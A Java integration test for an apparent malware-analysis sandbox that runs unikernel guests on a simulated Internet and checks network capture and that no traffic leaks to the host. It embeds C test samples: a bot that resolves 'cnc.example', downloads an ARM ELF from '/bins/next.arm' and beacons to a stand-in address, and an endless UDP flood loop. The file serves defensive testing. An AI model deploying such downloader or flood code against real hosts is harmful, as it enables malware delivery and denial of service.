package org.malassay.environments.unikernel;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.malassay.behavior.Conversation;
import org.malassay.behavior.Event;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.environment.Ending;
import org.malassay.environment.Environment;
import org.malassay.environment.Evidence;
import org.malassay.environment.Execution;
import org.malassay.environment.Guest;
import org.malassay.environment.GuestException;
import org.malassay.environment.Limits;
import org.malassay.environment.Opening;
import org.malassay.environment.Order;
import org.malassay.environment.Piece;
import org.malassay.environment.Probe;
import org.malassay.environment.Used;
import org.malassay.environments.contract.ArmPrograms;
import org.malassay.environments.internet.HostCapture;
import org.malassay.environments.internet.PacketFile;
import org.malassay.environments.qemu.Leftovers;
import org.malassay.options.Options;

/** Unikernels whose Internet is simulated, by a tap in a network namespace of their own. */
@Tag("guest")
@Timeout(600) // the first one builds the kernel
class UnikernelInternetIT {
  /** Asks for a name, fetches a program from there, and talks to addresses of its own. */
  private static final String BOT =
      """
      static char b[2000];
      struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
      inet_aton("8.8.8.8", &to.sin_addr);
      static const char query[] = "\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3cnc\\7example\\0\\0\\1\\0\\1";
      int s = socket(AF_INET, SOCK_DGRAM, 0);
      sendto(s, query, sizeof query - 1, 0, (void *)&to, sizeof to);
      int n = recv(s, b, sizeof b, 0);
      if (n < 16) return 1;
      to.sin_port = htons(80);
      memcpy(&to.sin_addr, b + n - 4, 4);
      s = socket(AF_INET, SOCK_STREAM, 0);
      if (connect(s, (void *)&to, sizeof to)) return 2;
      const char *get = "GET /bins/next.arm HTTP/1.0\\r\\nHost: cnc.example\\r\\n\\r\\n";
      send(s, get, strlen(get), 0);
      int all = 0;
      while (all < (int)sizeof b - 1 && (n = recv(s, b + all, sizeof b - 1 - all, 0)) > 0) all += n;
      if (!memmem(b, all, "\\177ELF", 4)) return 3;
      close(s);
      inet_aton("203.0.113.7", &to.sin_addr);
      to.sin_port = htons(4000);
      s = socket(AF_INET, SOCK_STREAM, 0);
      if (connect(s, (void *)&to, sizeof to)) return 4;
      send(s, "hello", 5, 0);
      shutdown(s, SHUT_WR);
      recv(s, b, sizeof b, 0);
      return 0;
      """;

  private static final String FLOOD =
      """
      static char b[1000]; int s = socket(AF_INET, SOCK_DGRAM, 0);
      struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
      inet_aton("198.51.100.9", &to.sin_addr); memset(b, 'z', sizeof b);
      for (;;) sendto(s, b, sizeof b, 0, (void *)&to, sizeof to);
      """;

  private static final Limits LIMITS =
      new Limits(Duration.ofSeconds(4), 1 << 20, 256 << 20, 128, 1, 64 << 20);

  @TempDir private Path folder;

  private static Opening opening(String internet) {
    return new Opening(
        Options.of(Map.of("internet", internet)), LIMITS, "it", EnumSet.allOf(Facet.class));
  }

  @AfterEach
  void nothingIsLeft() throws Exception {
    Leftovers.assertNone();
  }

  private static <T> List<T> of(Class<T> type, List<Event> events) {
    return events.stream().filter(type::isInstance).map(type::cast).toList();
  }

  @Test
  void whatASampleSaysIsToldWithItsProcessAndNothingLeavesTheHost() throws Exception {
    assumeTrue(HostCapture.isPossible());
    List<Event> events = Collections.synchronizedList(new ArrayList<>());
    Evidence evidence = new Evidence(folder.resolve("bot"));
    // The kernel is built before: Debian's archive may lie in a network that is watched.
    try (Environment environment = new UnikernelProvider().open(opening("simulated"));
        HostCapture capture = new HostCapture(folder, List.of())) {
      assertThat(environment.observes()).containsEntry(Facet.NETWORK, Origin.NETWORK);
      assertThat(environment.facts().get("network")).startsWith("a simulated Internet");
      try (Guest guest = environment.start()) {
        guest.put(new ArmPrograms(folder).program("bot", BOT));
        Execution execution = guest.run(Order.of(), events::add);
        assertThat(execution.ending()).isEqualTo(new Ending.Exited(0));
        assertThat(execution.recording().of(Facet.NETWORK)).isEqualTo(FacetState.OBSERVED);
        Used used = guest.used().orElseThrow();
        assertThat(used.packetsSent().orElseThrow()).isGreaterThan(10);
        assertThat(used.packetsReceived().orElseThrow()).isGreaterThan(10);
        assertThat(guest.probe().available()).isTrue();
        guest.collect(evidence);
      }
      assertThat(capture.leaks()).isEmpty();
    }
    assertThat(of(Question.class, events))
        .extracting(it -> it.protocol() + " " + it.asked())
        .containsExactlyInAnyOrder(
            "dns A cnc.example", "http GET http://cnc.example/bins/next.arm");
    int process = of(ProgramStarted.class, events).get(0).process();
    assertThat(of(Conversation.class, events))
        .hasSize(3)
        .allSatisfy(it -> assertThat(it.process()).hasValue(process))
        .extracting(it -> it.transport() + " " + it.protocol().orElse("-"))
        .containsExactlyInAnyOrder("udp dns", "tcp http", "tcp -");
    assertThat(evidence.index())
        .extracting(Piece::name)
        .contains(PacketFile.NAME, "conversations.jsonl.gz")
        .doesNotContain("capture.pcap");
    assertThat(Files.readString(evidence.folder().resolve(PacketFile.NAME), ISO_8859_1))
        .contains("/tmp/bot (process ");
  }

  /**
   * Which records no calls: nobody knows whose conversations they are. Its kernel takes minutes.
   */
  @Test
  @Tag("slow")
  void linuxAsAUnikernelFindsOneToo() throws Exception {
    List<Event> events = Collections.synchronizedList(new ArrayList<>());
    try (Environment environment = new LinuxUnikernelProvider().open(opening("simulated"));
        Guest guest = environment.start()) {
      guest.put(new ArmPrograms(folder).program("bot", BOT));
      Execution execution = guest.run(Order.of(), events::add);
      assertThat(execution.ending()).isEqualTo(new Ending.Exited(0));
      assertThat(execution.recording().of(Facet.NETWORK)).isEqualTo(FacetState.OBSERVED);
    }
    assertThat(of(Conversation.class, events))
        .hasSize(3)
        .allSatisfy(it -> assertThat(it.process()).isEmpty());
  }

  @Test
  void thePageIsServedUnderAFloodWhoseLossIsTold() throws Exception {
    try (Environment environment = new UnikernelProvider().open(opening("simulated"));
        Guest guest = environment.start()) {
      guest.put(new ArmPrograms(folder).program("floods", FLOOD));
      CompletableFuture<Execution> running = CompletableFuture.supplyAsync(() -> run(guest));
      int asked = 0;
      for (; !running.isDone(); asked++) {
        Probe during = guest.probe();
        assertThat(during.available()).as("%s", during).isTrue();
      }
      assertThat(asked).isGreaterThan(5);
      assertThat(running.get().recording().of(Facet.NETWORK).kind()).isEqualTo(FacetState.Kind.CUT);
    }
  }

  private static Execution run(Guest guest) {
    try {
      return guest.run(Order.of(), event -> {});
    } catch (GuestException e) {
      throw new AssertionError(e);
    }
  }

  @Test
  void withoutOneTheHeaderSaysWhy() throws Exception {
    try (Environment none = new SealedUnikernelProvider().open(opening("none"))) {
      assertThat(none.facts())
          .containsEntry("network", "a card that leads nowhere (-Dinternet=none)");
      assertThat(none.missing())
          .containsEntry(Facet.NETWORK, "guests have no network (-Dinternet=none)");
    }
  }
}
